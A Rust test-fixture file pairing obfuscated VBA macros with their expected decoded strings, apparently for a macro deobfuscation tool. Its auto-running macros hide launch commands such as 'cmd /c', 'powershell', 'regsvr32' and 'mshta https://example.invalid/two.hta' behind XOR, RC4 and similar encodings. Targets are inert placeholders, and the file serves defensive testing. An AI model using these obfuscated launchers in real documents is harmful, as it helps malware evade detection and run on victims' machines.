//! What takes a little more of the language: types, errors, streams of keys.

use super::{Case, case};

pub(super) const CASES: &[Case] = &[
    case(
        "members of an enumeration",
        "inert-enum",
        r#"
Private Enum Codes
    A = 105
    B = 110
    C = &H65
    D = 114
    E = A + 11
    F = 45
End Enum

Sub AutoOpen()
    MsgBox Chr(A) & Chr(B) & Chr(Codes.C) & Chr(D) & Chr(E) & Chr(F) & Chr(C) & Chr(B) & Chr(117) & Chr(109)
End Sub
"#,
    ),
    case(
        "an array that grows",
        "https://example.invalid/grown",
        r#"
Dim parts() As String
Dim count As Integer

Sub Add(t As String)
    ReDim Preserve parts(count)
    parts(count) = t
    count = count + 1
End Sub

Sub AutoOpen()
    Add "https"
    Add "://exa"
    Add "mple.inv"
    Add "alid/grown"
    MsgBox Join(parts, "")
End Sub
"#,
    ),
    case(
        "what a filter leaves",
        "cmd /c inert-filter.invalid",
        r#"
Sub AutoOpen()
    Dim a
    a = Split("cm|%no|d /|%nor|c in|ert-f|%this|ilter.in|valid", "|")
    Shell Join(Filter(a, "%", False), "")
End Sub
"#,
    ),
    case(
        "a way through an error",
        "https://example.invalid/error",
        r#"
Sub AutoOpen()
    Dim s As String, n As Integer
    On Error GoTo handler
    n = 1 / n
    s = "nothing"
    Exit Sub
handler:
    s = "https://exam"
    Resume after
after:
    s = s & "ple.invalid/error"
    MsgBox s
End Sub
"#,
    ),
    case(
        "columns read as rows",
        "powershell inert-columns.invalid",
        r#"
Sub AutoOpen()
    Dim t As String, r As Integer, c As Integer, s As String, n As Integer
    t = "prln-u.aoslecmilwh ronnieeitlsvd"
    n = Len(t) / 4
    For c = 1 To n
        For r = 0 To 3
            s = s & Mid(t, r * n + c, 1)
        Next r
    Next c
    Shell Replace(s, "~", "")
End Sub
"#,
    ),
    case(
        "only letters of a kind",
        "inert by like",
        r#"
Sub AutoOpen()
    Dim t As String, i As Integer, s As String
    t = "I4iPnQ%e7rXYt& Zb2y8 !lLiMk*e9"
    For i = 1 To Len(t)
        If Mid(t, i, 1) Like "[a-z ]" Then s = s & Mid(t, i, 1)
    Next i
    MsgBox s
End Sub
"#,
    ),
    case(
        "a dictionary as an alphabet",
        "wscript.shell",
        r#"
Sub AutoOpen()
    Dim d, i, s, k, v
    Set d = CreateObject("Scripting.Dictionary")
    k = "qazwsxedcr"
    v = "wscript.he"
    For i = 1 To Len(k)
        d.Add Mid(k, i, 1), Mid(v, i, 1)
    Next
    d.Add "y", "l"
    For Each i In Array("q", "a", "z", "w", "s", "x", "e", "d", "a", "c", "r", "y", "y")
        s = s & d(i)
    Next
    Set o = CreateObject(s)
End Sub
"#,
    ),
    case(
        "bytes of a text, changed in place",
        "regsvr32 inert-place.dll",
        r#"
Sub AutoOpen()
    Dim b() As Byte, i As Long
    b = StrConv("ub`tqu45'nibus*wkfdb)ckk", vbFromUnicode)
    For i = 0 To UBound(b)
        b(i) = b(i) Xor 7
    Next i
    Shell StrConv(b, vbUnicode)
End Sub
"#,
    ),
    case(
        "bytes of a text in pairs",
        "inert pairs",
        r#"
Sub AutoOpen()
    Dim b() As Byte, i As Long, s As String
    b = "hodsu!q`hsr"
    For i = 0 To UBound(b) Step 2
        s = s & Chr(b(i) Xor 1)
    Next
    MsgBox s
End Sub
"#,
    ),
    case(
        "binary digits",
        "inert bits",
        r#"
Function FromBits(t)
    Dim i, k, n
    For i = 1 To Len(t) Step 8
        n = 0
        For k = 0 To 7
            If Mid(t, i + k, 1) = "1" Then n = n + 2 ^ (7 - k)
        Next
        FromBits = FromBits & Chr(n)
    Next
End Function

Sub AutoOpen()
    MsgBox FromBits("01101001011011100110010101110010011101000010000001100010011010010111010001110011")
End Sub
"#,
    ),
    case(
        "two letters for each",
        "mshta https://example.invalid/two.hta",
        r#"
Sub AutoOpen()
    Dim t$, i%, s$
    t = "gnhdgihegbcagihehehahddkcpcpgfhigbgnhagmgfcogjgohggbgmgjgecphehhgpcogihegb"
    For i = 1 To Len(t) Step 2
        s = s & Chr((Asc(Mid(t, i, 1)) - 97) * 16 + Asc(Mid(t, i + 1, 1)) - 97)
    Next
    Shell s
End Sub
"#,
    ),
    case(
        "a pointer through numbers",
        "https://example.invalid/pointer",
        r#"
Sub AutoOpen()
    Dim t As String, p As Long, e As Long, s As String
    t = "104x116x116x112x115x58x47x47x101x120x97x109x112x108x101x46x105x110x118x97x108x105x100x47x112x111x105x110x116x101x114x"
    p = 1
    Do
        e = InStr(p, t, "x")
        If e = 0 Then Exit Do
        s = s & Chr(Val(Mid(t, p, e - p)))
        p = e + 1
    Loop Until p > Len(t)
    MsgBox s
End Sub
"#,
    ),
    case(
        "RC4",
        "https://example.invalid/rc4.exe",
        r#"
Function Rc4(v As Variant, key As String) As String
    Dim s(255) As Integer, i As Integer, j As Integer, t As Integer, n As Long
    For i = 0 To 255: s(i) = i: Next
    For i = 0 To 255
        j = (j + s(i) + Asc(Mid(key, (i Mod Len(key)) + 1, 1))) Mod 256
        t = s(i): s(i) = s(j): s(j) = t
    Next i
    i = 0: j = 0
    For n = 0 To UBound(v)
        i = (i + 1) Mod 256
        j = (j + s(i)) Mod 256
        t = s(i): s(i) = s(j): s(j) = t
        Rc4 = Rc4 & Chr(v(n) Xor s((s(i) + s(j)) Mod 256))
    Next n
End Function

Sub AutoOpen()
    Navigate Rc4(Array(73, 6, 130, 88, 9, 206, 202, 217, 61, 30, 94, 19, 34, 42, 237, 143, 221, 170, 28, 230, 231, 180, 89, 240, 126, 243, 131, 11, 40, 61, 211), "winter")
End Sub
"#,
    ),
    case(
        "a stream of keys",
        "WScript.Shell",
        r#"
Sub AutoOpen()
    Dim k As Long, c, s
    k = 7
    For Each c In Array(43, 18, 53, 201, 25, 5, 190, 65, 55, 193, 91, 79, 52)
        k = (k * 17 + 5) Mod 256
        s = s & Chr(c Xor k)
    Next
    Set o = CreateObject(s)
End Sub
"#,
    ),
    case(
        "each with the one before",
        "cmd /c inert-chain.invalid",
        r#"
Sub AutoOpen()
    Dim v, i, last, s
    last = 90
    v = Array(57, 84, 48, 16, 63, 92, 124, 21, 123, 30, 108, 24, 53, 86, 62, 95, 54, 88, 118, 31, 113, 7, 102, 10, 99, 7)
    For i = LBound(v) To UBound(v)
        s = s & Chr(v(i) Xor last)
        last = v(i)
    Next
    Shell s
End Sub
"#,
    ),
    case(
        "offsets that are sums",
        "https://example.invalid/sums",
        r#"
Sub AutoOpen()
    Dim a As Long, b As Long, t As Long, n, s
    a = 1: b = 1
    For Each n In Array(105, 117, 118, 115, 120, 66, 60, 68, 135, 125, 136, 153, 145, 135, 111, 83, 152, 144, 149, 112, 154, 116, 107, 65, 140, 160, 127, 126)
        s = s & Chr(n - a Mod 50)
        t = (a + b) Mod 1000
        a = b
        b = t
    Next
    MsgBox s
End Sub
"#,
    ),
    case(
        "the complement",
        "inert complement",
        r#"
Sub AutoOpen()
    For Each n In Array(150, 145, 154, 141, 139, 223, 156, 144, 146, 143, 147, 154, 146, 154, 145, 139)
        s = s & Chr((Not n) And 255)
    Next
    MsgBox s
End Sub
"#,
    ),
    case(
        "a value that is kept between calls",
        "inert static",
        r#"
Function NextPart() As String
    Static n As Integer
    n = n + 1
    NextPart = Mid("ineXrt Xstatic", (n - 1) * 4 + 1, 3)
    If n = 4 Then NextPart = "tic"
End Function

Sub AutoOpen()
    Dim s
    s = NextPart & NextPart() & NextPart & NextPart
    MsgBox s
End Sub
"#,
    ),
    case(
        "an object that is made with its texts",
        "https://example.invalid/made",
        r#"
'# document ThisDocument
Private Sub Document_Open()
    Dim s As String, i As Integer
    With New Store
        For i = 3 To 1 Step -1
            s = .Part(i) & s
        Next
    End With
    MsgBox s
End Sub
'# class Store
Private parts(1 To 3) As String
Private Sub Class_Initialize()
    parts(2) = "ample.inva"
    parts(1) = "https://ex"
    parts(3) = "lid/made"
End Sub
Public Property Get Part(ByVal n As Integer) As String
    Part = parts(n)
End Property
"#,
    ),
    case(
        "the result of a macro by name",
        "https://example.invalid/by-name",
        r#"
Function Whole(a, b)
    Whole = a & b & "/by-name"
End Function

Sub AutoOpen()
    MsgBox Application.Run("Who" & "le", "https://exam", "ple.invalid")
End Sub
"#,
    ),
    case(
        "replaced from a place on, split to a limit",
        "inert limits here",
        r#"
Sub AutoOpen()
    Dim p
    p = Split("in_er_t_li_mi_ts", "_", 3)
    MsgBox Replace("xxine", "x", "", 1) & Mid(Replace("..rt", ".", "", , 2), 1) & " " & Replace(Mid(p(2), 3), "_", "") & Replace(" he-re", "-", "")
End Sub
"#,
    ),
];
